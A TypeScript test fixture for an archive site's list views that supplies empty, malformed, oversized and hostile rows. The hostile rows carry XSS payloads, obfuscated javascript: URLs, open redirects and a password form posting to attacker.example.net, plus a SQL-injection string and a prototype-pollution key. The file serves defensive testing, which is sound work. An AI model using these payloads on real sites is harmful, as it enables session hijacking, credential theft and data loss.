import { daysMarkup, escaped } from './markup.ts';
import { display } from './display.ts';
import type { Display } from './display.ts';
import { newsStrings } from './news-rows.ts';

/** Whatever runs sets this; a test looks whether it is there. */
const MARK = 'window.__hostile=1';
const EVIL = 'https://attacker.example.net';
const TEN_THOUSAND = 10_000;

const PEOPLE_TO_ASK = [
  {
    label: 'Vesna Mlakar',
    path: '/workgroups-about',
    date: '2026-09-24',
    text: '<p>Archives in Motion: drawers of cards.</p>',
  },
  {
    label: 'Iker Ugalde',
    path: '/workgroups-about',
    date: '2026-09-24',
    text: '<p>Archives in Motion: the rota of telephones.</p>',
  },
  {
    label: 'Dagný Hrafnsdóttir',
    path: '/steering-committee',
    date: '2025-06',
    text: '<p>The cold store in Reykjavík.</p>',
  },
];

const CINEMAS = [
  {
    name: 'Kino Latarnia & <Sons>',
    url: 'https://cinemas.example.org/latarnia',
    field_date: daysMarkup('1927-03-05', '1927-03-05'),
    field_abstract: '<p>Sixty-two seats, one pillar.</p>',
  },
  { name: 'Deniz Sineması, İstanbul', url: '/conferences', field_date: '1951', field_abstract: '' },
];

/**
 * Rows by an attacker. Each has a title that stays readable; every attack that works sets
 * `window.__hostile`, changes the address, or sends a request to `attacker.example.net`.
 */
const HOSTILE_ROWS: readonly unknown[] = [
  {
    uuid: `"><script>${MARK}</script>`,
    title: `A script in the title <script>${MARK}</script><img src=x onerror=${MARK}>`,
    view_node: `javascript:${MARK}`,
    created: `<time datetime="2026-11-20T09:00:00Z" onclick="${MARK}"><img src=x onerror=${MARK}>20 November</time>`,
    body_summary: `<p onclick="${MARK}">Text with a handler.<script>${MARK}</script></p><a href="javascript:${MARK}">A link</a>`,
    field_image: `<img src="javascript:${MARK}" alt="" onerror="${MARK}" onload="${MARK}" />`,
    field_tax_vocab_news_tags: `<script>${MARK}</script>, <svg onload=${MARK}>`,
    tag_ids: '4; DROP TABLE term',
  },
  {
    title: `<a href="javascript:${MARK}" onclick="${MARK}" hreflang="en">A title that is a link to a script</a>`,
    created: `<time datetime="<img src=x onerror=${MARK}>">Yesterday</time>`,
    body: `<iframe srcdoc="&lt;script&gt;parent.${MARK}&lt;/script&gt;"></iframe><form action="${EVIL}/login"><input name="password"></form>Still readable.`,
  },
  ...[
    'java\nscript:window.__hostile=1',
    ' \u0001javascript:window.__hostile=1',
    'JaVaScRiPt&colon;window.__hostile=1',
    'data:text/html,<script>window.__hostile=1</script>',
    'vbscript:msgbox(1)',
    `blob:${EVIL}/1`,
    '//attacker.example.net/',
    '/\\attacker.example.net/',
    '/..//attacker.example.net',
    `${EVIL}/`,
    'http://[broken',
  ].map((url) => ({
    title: `An address to distrust: ${JSON.stringify(url)}`,
    url,
    date: url,
    text: `<p>${escaped(url)}</p>`,
  })),
  {
    name: 'Styles that want the whole window',
    path: '/sandbox/hostile',
    field_text: `<p style="position:fixed;inset:0;background:red">Everywhere</p><style>body{display:none!important}</style>`,
  },
  {
    title: `A picture that tells`,
    field_image: { url: `${EVIL}/pixel.png`, alt: `" onerror="${MARK}`, width: -1, height: 1e30 },
    body_summary: `<img src="${EVIL}/pixel.png" alt="">`,
  },
  {
    title: { value: { value: { value: 'Too deep' } } },
    created: [[['2026']]],
    url: { uri: { url: `javascript:${MARK}` } },
  },
  { title: 12, created: true, body: -0.5, url: null },
  { title: 'x'.repeat(5000), created: '99999999999999999999', view_node: `/${'a'.repeat(5000)}` },
  JSON.parse(
    '{"__proto__":{"polluted":true},"constructor":{"prototype":{"polluted":true}},"title":"A prototype as a key"}',
  ),
  null,
  'A row that is a text',
  [],
];

const SUBJECTS = [
  'A wedding',
  'The ice breaks',
  'Harvest',
  'Tram to the harbour',
  'First snow',
  'A school play',
  'Welding',
  'Swimming lesson',
  'The flood',
  'Market day',
  'A goal',
  'Night shift',
  'The new bridge',
];
const PLACES = [
  'Łódź',
  'Gdańsk',
  'İstanbul',
  'Reykjavík',
  'Plzeň',
  'Tartu',
  'Θεσσαλονίκη',
  'Porto',
  'Galway',
  'Brno',
  'Tromsø',
];

/** Entry of a catalogue of ten thousand reels, made of its number. */
function reelOf(number: number): Record<string, string> {
  const subject = SUBJECTS[(number * 7) % SUBJECTS.length] ?? '';
  const place = PLACES[(number * 5) % PLACES.length] ?? '';
  return {
    id: String(number),
    title: `Reel ${number}: ${subject}, ${place}`,
    date: String(1920 + (number % 70)),
  };
}

/** The view `sandbox_lists`: lists that are awkward to read. */
export const SANDBOX_LISTS: Readonly<Record<string, Display>> = {
  /** Nothing, in a pager of 0 pages. */
  empty: display({ items: () => [], row: String, pager: { kind: 'full', itemsPerPage: 10 } }),
  /** A pager of 1 page; rows with other keys than nodes have. */
  one_page: display({ items: () => PEOPLE_TO_ASK, row: (item) => item, pager: { kind: 'full', itemsPerPage: 10 } }),
  /** `{"pager": …}` without rows. */
  missing_rows: display({
    items: () => CINEMAS,
    row: String,
    pager: { kind: 'full', itemsPerPage: 10 },
    envelope: 'pager only',
  }),
  /** Rows, and the pager null. */
  null_pager: display({
    items: () => CINEMAS,
    row: ({ name, ...rest }) => ({ name: escaped(name), ...rest }),
    pager: { kind: 'none' },
    envelope: 'rows only',
  }),
  /** Hostile HTML, addresses and types in every field, and rows that are none. */
  hostile: display({ items: () => HOSTILE_ROWS, row: (item) => item, pager: { kind: 'full', itemsPerPage: 100 } }),
  /** 10,000 rows in one answer. */
  ten_thousand: display({
    items: () => Array.from({ length: TEN_THOUSAND }, (_, index) => index + 1),
    row: reelOf,
    pager: { kind: 'none' },
  }),
  /** For logged-in users; visitors get 403 with an empty message. */
  members: display({
    items: (content) => content.news().filter(({ category }) => category?.name === 'membership'),
    row: newsStrings,
    pager: { kind: 'full', itemsPerPage: 5 },
    access: 'logged-in',
  }),
};
